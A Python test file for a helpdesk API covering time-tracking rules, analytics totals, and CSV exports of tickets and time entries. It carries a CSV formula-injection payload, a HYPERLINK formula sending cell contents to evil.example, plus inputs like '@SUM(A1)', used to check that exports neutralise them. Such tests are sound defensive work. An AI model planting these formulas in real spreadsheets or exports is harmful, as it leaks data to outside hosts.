"""Time tracking (S4) and the CSV exports (S3): entries on a ticket with their rules, the
totals on the ticket and in the analytics, and exports that hold only what the caller may
see, with hostile cells defused. The default queue's visibility is `assigned`: an agent
sees unassigned tickets and their own, so agent2 does not see agent1's tickets."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from tests.people import Team

TODAY = datetime.now(UTC).date()
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def _assigned(team: Team, subject: str, agent: str, customer: str = "carol") -> int:
    ticket = await team.open_ticket(customer, subject)
    status, _ = await team.call(
        "admin", "POST", f"/api/tickets/{ticket}/assign/", json={"assigned_agent": team.id(agent)}
    )
    assert status == 200
    return ticket


async def _log(team: Team, who: str, ticket: int, **body: Any) -> dict[str, Any]:
    status, entry = await team.call(who, "POST", f"/api/tickets/{ticket}/time/", json=body)
    assert status == 201, entry
    return dict(entry)


def _table(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))


async def test_entries_on_a_ticket_with_their_totals(team: Team):
    ticket = await _assigned(team, "Printer", "agent1")
    first = await _log(team, "agent1", ticket, minutes=30, note="Looked at it")
    assert first["minutes"] == 30 and first["note"] == "Looked at it"
    assert first["user"]["id"] == team.id("agent1") and first["worked_on"] == TODAY.isoformat()
    # S4-style names: hours, description, date.
    day = (TODAY - timedelta(days=3)).isoformat()
    second = await _log(team, "admin", ticket, hours="1.25", description="Called", date=day)
    assert (second["minutes"], second["note"], second["worked_on"]) == (75, "Called", day)
    assert (second["hours"], second["description"], second["date"]) == (1.25, "Called", day)

    status, listed = await team.call("agent1", "GET", f"/api/tickets/{ticket}/time/")
    assert status == 200
    assert [e["id"] for e in listed["results"]] == [second["id"], first["id"]]  # oldest day first
    assert listed["total_minutes"] == 105
    _, detail = await team.call("agent1", "GET", f"/api/tickets/{ticket}/")
    assert detail["time_spent_minutes"] == 105
    _, seen_by_customer = await team.call("carol", "GET", f"/api/tickets/{ticket}/")
    assert "time_spent_minutes" not in seen_by_customer
    status, _ = await team.call("carol", "GET", f"/api/tickets/{ticket}/time/")
    assert status == 403
    status, _ = await team.call("agent2", "GET", f"/api/tickets/{ticket}/time/")
    assert status == 404  # agent2 does not see agent1's ticket


async def test_own_entries_are_edited_by_their_author_and_any_by_admins(team: Team):
    ticket = await team.open_ticket("carol", "Unassigned: both agents see it")
    mine = await _log(team, "agent1", ticket, minutes=10)
    status, body = await team.call(
        "agent2", "PATCH", f"/api/time/{mine['id']}/", json={"minutes": 1}
    )
    assert status == 403, body
    status, _ = await team.call("agent2", "DELETE", f"/api/time/{mine['id']}/")
    assert status == 403
    status, edited = await team.call(
        "agent1", "PATCH", f"/api/time/{mine['id']}/", json={"minutes": 20, "note": "more"}
    )
    assert status == 200 and (edited["minutes"], edited["note"]) == (20, "more")
    status, edited = await team.call(
        "admin", "PATCH", f"/api/time/{mine['id']}/", json={"hours": 1}
    )
    assert status == 200 and edited["minutes"] == 60 and edited["user_id"] == team.id("agent1")
    status, _ = await team.call("carol", "PATCH", f"/api/time/{mine['id']}/", json={"minutes": 1})
    assert status == 403
    assert (await team.call("admin", "DELETE", f"/api/time/{mine['id']}/"))[0] == 204
    assert (await team.call("agent1", "DELETE", f"/api/time/{mine['id']}/"))[0] == 404
    # Admins log time for a colleague; agents only for themselves.
    status, for_agent2 = await team.call(
        "admin",
        "POST",
        f"/api/tickets/{ticket}/time/",
        json={"minutes": 5, "user_id": team.id("agent2")},
    )
    assert status == 201 and for_agent2["user_id"] == team.id("agent2")
    status, _ = await team.call(
        "agent1",
        "POST",
        f"/api/tickets/{ticket}/time/",
        json={"minutes": 5, "user_id": team.id("agent2")},
    )
    assert status == 403
    status, _ = await team.call(
        "admin",
        "POST",
        f"/api/tickets/{ticket}/time/",
        json={"minutes": 5, "user_id": team.id("carol")},
    )
    assert status == 400


async def test_entries_are_checked(team: Team):
    ticket = await team.open_ticket("carol", "Checks")
    tomorrow_but_one = (TODAY + timedelta(days=2)).isoformat()
    for body, field in (
        ({}, "minutes"),
        ({"minutes": 0}, "minutes"),
        ({"minutes": 24 * 60 + 1}, "minutes"),
        ({"minutes": 5, "hours": 1}, "body"),
        ({"minutes": 5, "worked_on": tomorrow_but_one}, "worked_on"),
        ({"minutes": 5, "note": "a", "description": "b"}, "body"),
        ({"minutes": 5, "worked_on": "yesterday"}, "worked_on"),
        ({"minutes": 5, "colour": "red"}, "colour"),
    ):
        status, answer = await team.call(
            "agent1", "POST", f"/api/tickets/{ticket}/time/", json=body
        )
        assert status == 400, (body, answer)
        assert field in answer["details"]["fields"], (body, answer)


async def test_time_analytics_per_agent_and_period(team: Team):
    ticket = await team.open_ticket("carol", "Shared")
    old = (TODAY - timedelta(days=40)).isoformat()
    await _log(team, "agent1", ticket, minutes=30)
    await _log(
        team, "agent1", ticket, minutes=15, worked_on=(TODAY - timedelta(days=1)).isoformat()
    )
    await _log(team, "agent2", ticket, minutes=20)
    await _log(team, "agent2", ticket, minutes=600, worked_on=old)  # before the last 30 days
    other = await team.open_ticket("dave", "Other")
    await _log(team, "agent2", other, minutes=10)

    status, report = await team.call("admin", "GET", "/api/analytics/time/")
    assert status == 200, report
    assert report["overall"] == {"minutes": 75, "hours": 1.25, "entries": 4, "tickets": 2}
    by_agent = {a["agent_id"]: a for a in report["agents"]}
    assert by_agent[team.id("agent1")]["minutes"] == 45
    agent2 = by_agent[team.id("agent2")]
    assert agent2["email"] == "agent2@localhost"
    assert (agent2["minutes"], agent2["hours"], agent2["entries"], agent2["tickets"]) == (
        30,
        0.5,
        2,
        2,
    )
    status, one_day = await team.call(
        "admin", "GET", f"/api/analytics/time/?since={old}&until={old}&agent={team.id('agent2')}"
    )
    assert status == 200 and one_day["overall"]["minutes"] == 600
    status, raw = await team.call("admin", "GET", "/api/analytics/time/?format=csv")
    assert status == 200
    rows = _table(raw)
    assert rows[-1]["agent_id"] == "all" and rows[-1]["minutes"] == "75"
    assert (await team.call("agent1", "GET", "/api/analytics/time/"))[0] == 403
    status, _ = await team.call("admin", "GET", f"/api/analytics/time/?since={TODAY}&until={old}")
    assert status == 400


async def test_ticket_export_takes_the_list_filters_and_access(team: Team, api):
    hostile = await _assigned(team, HOSTILE, "agent1")
    await _log(team, "agent1", hostile, minutes=42)
    theirs = await _assigned(team, "+1 for agent2", "agent2", customer="dave")
    open_one = await team.open_ticket("dave", "@unassigned")
    status, _ = await team.call(
        "admin", "POST", f"/api/tickets/{theirs}/set-status/", json={"status": "RESOLVED"}
    )
    assert status == 200

    status, raw = await team.call("admin", "GET", "/api/tickets/export/?format=csv")
    assert status == 200
    assert not raw.startswith("\ufeff".encode())
    rows = _table(raw)
    # The list's order: the last changed first (theirs was resolved last).
    assert [int(r["id"]) for r in rows] == [theirs, open_one, hostile]
    by_id = {int(r["id"]): r for r in rows}
    assert by_id[hostile]["subject"] == "'" + HOSTILE  # defused: shown as text
    assert by_id[theirs]["subject"] == "'+1 for agent2"
    assert by_id[open_one]["subject"] == "'@unassigned"
    assert by_id[hostile]["time_spent_minutes"] == "42"
    assert by_id[hostile]["customer_email"] == "carol@example.com"
    assert by_id[hostile]["assigned_agent_email"] == "agent1@localhost"

    # The list's filters, by the list's own names.
    _, raw = await team.call("admin", "GET", "/api/tickets/export/?status=RESOLVED")
    assert [int(r["id"]) for r in _table(raw)] == [theirs]
    _, raw = await team.call(
        "admin", "GET", f"/api/tickets/export/?customer={team.id('dave')}&ordering=id"
    )
    assert [int(r["id"]) for r in _table(raw)] == [theirs, open_one]
    # An agent exports what they may see: their own and the unassigned.
    _, raw = await team.call("agent1", "GET", "/api/tickets/export/")
    assert {int(r["id"]) for r in _table(raw)} == {hostile, open_one}
    assert (await team.call("carol", "GET", "/api/tickets/export/"))[0] == 403
    status, answer = await team.call("admin", "GET", "/api/tickets/export/?status=NOPE")
    assert status == 400 and "status" in answer["details"]["fields"]
    status, answer = await team.call("admin", "GET", "/api/tickets/export/?format=xlsx")
    assert status == 400

    # As a download, with a byte order mark when asked (for Excel).
    headers = {"Authorization": f"Bearer {team.tokens['admin']}"}
    async with api.http.get(f"{api.base}/api/tickets/export/?bom=true", headers=headers) as r:
        assert r.status == 200 and r.content_type == "text/csv" and r.charset == "utf-8"
        assert r.headers["Content-Disposition"] == 'attachment; filename="tickets.csv"'
        body = await r.read()
    assert body.startswith("\ufeffid,subject,".encode())


async def test_time_export_holds_what_the_caller_may_see(team: Team):
    visible = await _assigned(team, "agent1's", "agent1")
    hidden = await _assigned(team, "agent2's", "agent2")
    a = await _log(team, "agent1", visible, minutes=10, note="-2+3")
    b = await _log(team, "admin", hidden, minutes=20, note="@SUM(A1)")
    # agent1 logged time on a ticket later handed to agent2: their own entry stays theirs.
    shared = await team.open_ticket("dave", "handed on")
    c = await _log(
        team, "agent1", shared, minutes=5, worked_on=(TODAY - timedelta(days=5)).isoformat()
    )
    status, _ = await team.call(
        "admin",
        "POST",
        f"/api/tickets/{shared}/assign/",
        json={"assigned_agent": team.id("agent2")},
    )
    assert status == 200

    status, raw = await team.call("admin", "GET", "/api/time/export/?format=csv")
    assert status == 200
    rows = _table(raw)
    assert [int(r["id"]) for r in rows] == [c["id"], a["id"], b["id"]]  # by day, then id
    by_id = {int(r["id"]): r for r in rows}
    assert by_id[a["id"]]["note"] == "'-2+3" and by_id[b["id"]]["note"] == "'@SUM(A1)"
    assert by_id[b["id"]]["minutes"] == "20" and by_id[b["id"]]["hours"] == "0.33"
    assert by_id[a["id"]]["ticket_subject"] == "agent1's"

    _, raw = await team.call("agent1", "GET", "/api/time/export/")
    assert {int(r["id"]) for r in _table(raw)} == {a["id"]}  # not c: handed on
    _, raw = await team.call("admin", "GET", f"/api/time/export/?since={TODAY}&until={TODAY}")
    assert {int(r["id"]) for r in _table(raw)} == {a["id"], b["id"]}
    _, raw = await team.call("admin", "GET", f"/api/time/export/?agent={team.id('admin')}")
    assert {int(r["id"]) for r in _table(raw)} == {b["id"]}
    # The own entry on a ticket no longer seen is gone for its author too; admins keep it.
    status, _ = await team.call("agent1", "PATCH", f"/api/time/{c['id']}/", json={"minutes": 6})
    assert status == 404
    status, _ = await team.call("admin", "PATCH", f"/api/time/{c['id']}/", json={"minutes": 6})
    assert status == 200
    assert (await team.call("carol", "GET", "/api/time/export/"))[0] == 403
    status, _ = await team.call("admin", "GET", f"/api/time/export/?since={TODAY}&until=2020-01-01")
    assert status == 400


async def test_entries_keep_to_queue_access_and_a_day(team: Team):
    """Removed from a queue, an agent no longer lists, edits or deletes the entries on its
    tickets (404; admins still do); time is logged only for someone who may see the
    ticket; one person logs at most a day's minutes a day."""
    code, sales = await team.call(
        "admin", "POST", "/api/queues/", json={"name": "Sales", "visibility": "team"}
    )
    assert code == 201, sales
    code, _ = await team.call(
        "admin",
        "POST",
        f"/api/queues/{sales['id']}/members/",
        json={"user_id": team.id("agent1"), "role": "user"},
    )
    assert code == 201
    deal = await team.open_ticket(
        "admin", "Secret deal", customer_email="carol@example.com", queue=sales["id"]
    )
    mine = await _log(team, "agent1", deal, minutes=30)
    code, refused = await team.call(
        "admin",
        "POST",
        f"/api/tickets/{deal}/time/",
        json={"minutes": 5, "user_id": team.id("agent2")},
    )
    assert code == 400 and "user_id" in refused["details"]["fields"], refused
    code, refused = await team.call(
        "admin", "PATCH", f"/api/time/{mine['id']}/", json={"user_id": team.id("agent2")}
    )
    assert code == 400 and "user_id" in refused["details"]["fields"], refused

    code, _ = await team.call(
        "admin", "DELETE", f"/api/queues/{sales['id']}/members/{team.id('agent1')}/"
    )
    assert code == 204
    assert (await team.call("agent1", "GET", f"/api/tickets/{deal}/"))[0] == 404
    _, raw = await team.call("agent1", "GET", "/api/time/export/")
    assert raw.decode().count("Secret deal") == 0 and _table(raw) == []
    for method, body in (("PATCH", {"minutes": 1}), ("DELETE", None)):
        code, _ = await team.call(
            "agent1", method, f"/api/time/{mine['id']}/", **({"json": body} if body else {})
        )
        assert code == 404, method
    _, raw = await team.call("admin", "GET", "/api/time/export/")
    assert [int(r["id"]) for r in _table(raw)] == [mine["id"]]

    # A day's minutes per person, across entries and tickets; an edit counts the same.
    ticket = await team.open_ticket("carol", "Long day")
    first = await _log(team, "agent2", ticket, minutes=1000)
    code, refused = await team.call(
        "agent2", "POST", f"/api/tickets/{ticket}/time/", json={"minutes": 441}
    )
    assert code == 400 and "minutes" in refused["details"]["fields"], refused
    await _log(team, "agent2", ticket, minutes=440)
    code, refused = await team.call(
        "agent2", "PATCH", f"/api/time/{first['id']}/", json={"minutes": 1001}
    )
    assert code == 400 and "minutes" in refused["details"]["fields"], refused
    yesterday = (TODAY - timedelta(days=1)).isoformat()
    await _log(team, "agent2", ticket, minutes=1440, worked_on=yesterday)
    await _log(team, "agent1", ticket, minutes=1410)  # another person: 30 + 1410
